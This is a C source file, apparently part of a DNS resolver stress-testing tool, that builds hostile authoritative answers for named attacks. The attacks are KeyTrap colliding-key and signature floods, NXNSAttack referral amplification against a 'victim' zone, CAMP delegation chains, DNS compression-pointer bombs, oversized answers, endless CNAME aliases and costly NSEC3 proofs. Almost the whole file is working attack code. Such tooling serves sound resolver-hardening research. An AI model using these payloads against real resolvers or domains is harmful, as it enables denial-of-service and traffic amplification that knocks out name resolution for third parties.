/* SPDX-License-Identifier: ISC */
#include "attack.h"

#include <stdio.h>
#include <string.h>

#include "sign.h"

/* A name below the last so many labels of the one asked that nobody heard before. */
static struct dg_name new_name(struct attack_state *state, const struct question *q,
			       unsigned labels)
{
	struct dg_name above = dg_name_ancestor(&q->name, labels);
	char label[24];

	snprintf(label, sizeof(label), "x%lu", state->news++);
	return draft_name(label, &above);
}

/* ---- aliases to ever new names in ever new zones
 * ----------------------------------------------------------------- */

static bool answer_aliases(struct attack_state *state, const struct question *q, struct draft *d)
{
	struct dg_name target;

	if (q->type != DG_TYPE_TXT)
		return false;
	target = new_name(state, q, 1);
	target = draft_name("t", &target);
	draft_add_name(d, DRAFT_ANSWER, &q->name, DG_TYPE_CNAME, &target);
	return true;
}

/* ---- whatever is asked, 64 KiB of small records ---------------------------------------------- */

static bool answer_large(struct attack_state *state, const struct question *q, struct draft *d)
{
	uint8_t rdata[2] = {1, 0};
	unsigned i;

	(void)state;
	if (dg_name_labels(&q->name) < 3 && q->type != DG_TYPE_TXT && q->type != DG_TYPE_CAA)
		return false;
	for (i = 0; i < 4600; i++) {
		rdata[1] = (uint8_t)i;
		draft_add(d, DRAFT_ANSWER, &q->name, DG_TYPE_TXT, rdata, sizeof(rdata));
	}
	return true;
}

/* ---- compression bombs ----------------------------------------------------------------------- */

/* 120 labels, and a pointer behind each; then as many empty records as fit, owned by the last of
 * them. */
static size_t make_bomb(uint8_t *raw, const struct question *q)
{
	static const uint8_t record[10] = {0xff, 0x01, 0, 1};
	size_t len = 12, first, i;
	unsigned records = 1;

	memcpy(raw, "\0\0\x84\0\0\1\0\0\0\0\0\0", 12);
	memcpy(raw + len, q->asked, q->asked_len);
	len += q->asked_len;
	memcpy(raw + len, "\xc0\x0c\xff\0\0\1\0\0\0\0", 10);
	raw[len + 10] = 480 >> 8;
	raw[len + 11] = 480 & 255;
	first = len + 12;
	for (i = 0; i < 120; i++) {
		size_t before = i == 0 ? first - 480 : first + 4 * (i - 1);

		raw[first + 4 * i] = 1;
		raw[first + 4 * i + 1] = 'b';
		raw[first + 4 * i + 2] = (uint8_t)(0xc0 | before >> 8);
		raw[first + 4 * i + 3] = (uint8_t)before;
	}
	/* The first label ends the name. */
	raw[first + 2] = raw[first + 3] = 0;
	for (len = first + 480; len + 12 <= DRAFT_MOST; len += 12, records++) {
		raw[len] = (uint8_t)(0xc0 | (first + 476) >> 8);
		raw[len + 1] = (uint8_t)(first + 476);
		memcpy(raw + len + 2, record, sizeof(record));
	}
	raw[6] = (uint8_t)(records >> 8);
	raw[7] = (uint8_t)records;
	return len;
}

static bool answer_bombs(struct attack_state *state, const struct question *q, struct draft *d)
{
	static uint8_t raw[DRAFT_MOST];

	(void)state;
	if (q->type != DG_TYPE_TXT)
		return false;
	d->raw_len = make_bomb(raw, q);
	d->raw = raw;
	return true;
}

/* ---- KeyTrap --------------------------------------------------------------------------------- */

static unsigned tag_of(const uint8_t *rdata, size_t len)
{
	uint32_t sum = 0;
	size_t i;

	for (i = 0; i < len; i++)
		sum += i & 1 ? rdata[i] : (uint32_t)rdata[i] << 8;
	return (sum + (sum >> 16)) & 0xffff;
}

/* Keys with the tag of the true one, which is the last: two words of it changed places. */
static void add_colliding_keys(struct draft *d, const struct dg_name *zone, unsigned count)
{
	uint8_t key[SIGN_DNSKEY], other[SIGN_DNSKEY];
	unsigned a, b;

	sign_dnskey(key);
	for (a = 2; a < SIGN_DNSKEY / 2; a++) {
		for (b = a + 1; b < SIGN_DNSKEY / 2 && count > 0; b++, count--) {
			memcpy(other, key, sizeof(key));
			memcpy(other + 2 * a, key + 2 * b, 2);
			memcpy(other + 2 * b, key + 2 * a, 2);
			draft_add(d, DRAFT_ANSWER, zone, DG_TYPE_DNSKEY, other, sizeof(other));
		}
	}
	draft_add(d, DRAFT_ANSWER, zone, DG_TYPE_DNSKEY, key, sizeof(key));
}

/* Signatures by that tag that no key has made, each for another key to be tried. */
static void add_wrong_signatures(struct attack_state *state, struct draft *d,
				 const struct question *q, unsigned count)
{
	struct dg_name zone = dg_name_ancestor(&q->name, 2);
	size_t right = d->count, before;
	uint8_t rdata[512], key[SIGN_DNSKEY];

	sign_dnskey(key);
	sign_set(d, DRAFT_ANSWER, &q->name, q->type, &zone, state->wall);
	if (d->count == right)
		return;
	before = d->rr[right].at;
	d->count = right;
	memcpy(rdata, d->octets + before, d->rr[right].len);
	while (count-- > 0) {
		rdata[16] = (uint8_t)(tag_of(key, sizeof(key)) >> 8);
		rdata[17] = (uint8_t)tag_of(key, sizeof(key));
		rdata[d->rr[right].len - 20] = (uint8_t)count;
		rdata[d->rr[right].len - 21] = (uint8_t)(count >> 8);
		draft_add(d, DRAFT_ANSWER, &q->name, DG_TYPE_RRSIG, rdata, 18 + zone.len + 64u);
	}
}

/* Fifteen more keys, believed; then signatures that all have to be tried with all. */
static bool answer_keytrap(struct attack_state *state, const struct question *q, struct draft *d)
{
	if (q->type == DG_TYPE_DNSKEY) {
		add_colliding_keys(d, &q->name, 15);
		sign_set(d, DRAFT_ANSWER, &q->name, DG_TYPE_DNSKEY, &q->name, state->wall);
		return true;
	}
	if (q->type != DG_TYPE_TXT)
		return false;
	draft_add_text(d, &q->name, "value");
	add_wrong_signatures(state, d, q, 500);
	return true;
}

/* The keys themselves are signed so. */
static bool answer_keytrap_keys(struct attack_state *state, const struct question *q,
				struct draft *d)
{
	if (q->type != DG_TYPE_DNSKEY)
		return false;
	add_colliding_keys(d, &q->name, 100);
	add_wrong_signatures(state, d, q, 500);
	return true;
}

/* ---- NXNSAttack ------------------------------------------------------------------------------ */

/* Each name is a zone, whose servers' names are somebody else's, who never heard of them. */
static bool answer_nxns(struct attack_state *state, const struct question *q, struct draft *d)
{
	struct dg_name zone = dg_name_ancestor(&q->name, 3), victim = dg_name_ancestor(&q->name, 1);
	unsigned i;

	if (dg_name_labels(&q->name) < 3)
		return false;
	victim = draft_name("victim", &victim);
	for (i = 0; i < 1000; i++) {
		char label[24];
		struct dg_name host;

		snprintf(label, sizeof(label), "v%lu", state->news++);
		host = draft_name(label, &victim);
		attack_refer(d, &zone, &host, 0);
	}
	return true;
}

/* ---- CAMP ------------------------------------------------------------------------------------ */

#define DEPTH 12

/* 127.0.4.N serves all zones of N labels; "sN..." is the name of such a server. Each name has DEPTH
 * labels, each of them a delegation to a server below example.lab. without glue; and its TXT record
 * is an alias of the next. */
static bool answer_camp(struct attack_state *state, const struct question *q, struct draft *d)
{
	unsigned labels = dg_name_labels(&q->name),
		 level = (q->address >> 8) == 0x7f0004u ? q->address & 255 : 2, i;
	struct dg_name zone, host;
	char label[40];

	if (labels < 3)
		return false;
	if (q->name.wire[1] == 's' && q->type == DG_TYPE_A) {
		unsigned serves = 0;

		for (i = 2;
		     i <= q->name.wire[0] && q->name.wire[i] >= '0' && q->name.wire[i] <= '9'; i++)
			serves = serves * 10 + q->name.wire[i] - '0';
		draft_add_address(d, DRAFT_ANSWER, &q->name, 0x7f000400u | (serves & 255));
		return true;
	}
	if (labels > level) {
		zone = dg_name_ancestor(&q->name, level + 1);
		for (i = 0; i < 4; i++) {
			host = dg_name_ancestor(&q->name, 2);
			snprintf(label, sizeof(label), "s%u-%lu", level + 1, state->news++);
			host = draft_name(label, &host);
			attack_refer(d, &zone, &host, 0);
		}
		return true;
	}
	if (q->type != DG_TYPE_TXT)
		return false;
	host = new_name(state, q, 2);
	for (i = 0; i < DEPTH - 3; i++)
		host = draft_name("c", &host);
	draft_add_name(d, DRAFT_ANSWER, &q->name, DG_TYPE_CNAME, &host);
	return true;
}

/* ---- NSEC3 ----------------------------------------------------------------------------------- */

#define ITERATIONS 150
#define SALT 255

/* Nothing is there; of eight proofs, signed and well-formed, none fits. */
static bool answer_nsec3(struct attack_state *state, const struct question *q, struct draft *d)
{
	static const uint8_t bitmap[] = {0, 1, 0x40};
	struct dg_name zone = dg_name_ancestor(&q->name, 2), owner;
	struct dice dice = {dg_name_hash(&q->name)};
	uint8_t rdata[6 + SALT + 20 + sizeof(bitmap)] = {1, 0, 0, ITERATIONS, SALT};
	unsigned i, k;

	if (dg_name_labels(&q->name) < 3 || (q->type != DG_TYPE_TXT && q->type != DG_TYPE_DS))
		return false;
	d->rcode = DG_RCODE_NXDOMAIN;
	draft_add_soa(d, DRAFT_AUTHORITY, &zone, 1, 1);
	attack_sign(state, d, DRAFT_AUTHORITY, &zone, DG_TYPE_SOA);
	for (i = 0; i < 8; i++) {
		char label[33] = "";

		for (k = 0; k < 32; k++)
			label[k] = "0123456789abcdefghijklmnopqrstuv"[dice_below(&dice, 32)];
		owner = draft_name(label, &zone);
		rdata[5 + SALT] = 20;
		for (k = 0; k < 20; k++)
			rdata[6 + SALT + k] = (uint8_t)dice_next(&dice);
		memcpy(rdata + 26 + SALT, bitmap, sizeof(bitmap));
		draft_add(d, DRAFT_AUTHORITY, &owner, DG_TYPE_NSEC3, rdata, sizeof(rdata));
		attack_sign(state, d, DRAFT_AUTHORITY, &owner, DG_TYPE_NSEC3);
	}
	return true;
}

const struct attack attacks[] = {
    {"aliases", "aliases to ever new names in ever new zones", false, 0, answer_aliases},
    {"large", "64 KiB of small records", false, 0, answer_large},
    {"bombs", "compression bombs: 5,400 owners of 120 labels and pointers", false, 0, answer_bombs},
    {"keytrap", "KeyTrap: 16 keys of one tag x 500 signatures of an answer", true, 0,
     answer_keytrap},
    {"keytrap-keys", "KeyTrap: 101 keys of one tag x 500 signatures of the keys", true, 0,
     answer_keytrap_keys},
    {"nxns", "NXNSAttack: 1,000 server names without glue", false, 0, answer_nxns},
    {"camp", "CAMP: aliases of names of 12 delegations without glue", false, 0, answer_camp},
    {"nsec3", "NSEC3: 8 proofs of 150 iterations, name of 100 labels", true, 96, answer_nsec3},
};
const size_t attack_count = sizeof(attacks) / sizeof(attacks[0]);
